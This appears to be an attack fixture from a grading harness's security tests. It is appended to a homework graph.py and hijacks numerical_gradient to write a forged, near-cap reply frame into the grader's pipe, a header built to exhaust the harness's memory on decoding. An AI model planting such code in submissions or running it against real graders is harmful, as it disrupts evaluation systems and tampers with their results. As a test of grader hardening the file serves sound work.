# ATTACK forged_reply (appended to a correct hw1 graph.py). In the public test that calls
# numerical_gradient on a 2x2 x, writes its own reply straight to the worker's reply pipe
# instead of returning: a frame just under the frame cap whose header is nothing but empty
# lists (made at import time; cheap to make, and it cost the harness ~27 bytes per byte to decode: 7.4 GB), then
# waits to be killed.
# Expected: that test fails (a malformed reply, kind error); every other test scores as for
# the correct example; the harness is not killed for memory (docker: no `memory` results).
import os as _os
import struct as _struct
import sys as _sys
import time as _time

_real_numerical_gradient = numerical_gradient  # noqa: F821 (defined above in graph.py)


def _make_frame():
    protocol = _sys.modules["grader.wire.protocol"]
    cap = protocol.MAX_FRAME_BYTES - 64
    if hasattr(protocol, "json"):   # the JSON header of the protocol before the fix
        header = b"[" + b"[]," * ((cap - 16) // 3) + b"[]]"
    else:                            # msgpack: an array32 of empty arrays
        n = cap - 16
        header = b"\xdd" + _struct.pack(">I", n) + b"\x90" * n
    body = _struct.pack("<II", 0, len(header)) + header
    return _struct.pack("<I", len(body)) + body


_FRAME = _make_frame()  # made at import, so that the call itself only writes it


def _forge():
    print(f"ATTACK forged_reply: writing {len(_FRAME)} bytes", flush=True)
    view = memoryview(_FRAME)
    while view:
        view = view[_os.write(int(_sys.argv[2]), view):]
    _time.sleep(3600)


def numerical_gradient(f, x, *args, **kwargs):
    if getattr(x, "shape", None) == (2, 2):
        _forge()
    return _real_numerical_gradient(f, x, *args, **kwargs)


print("ATTACK installed: forged_reply")
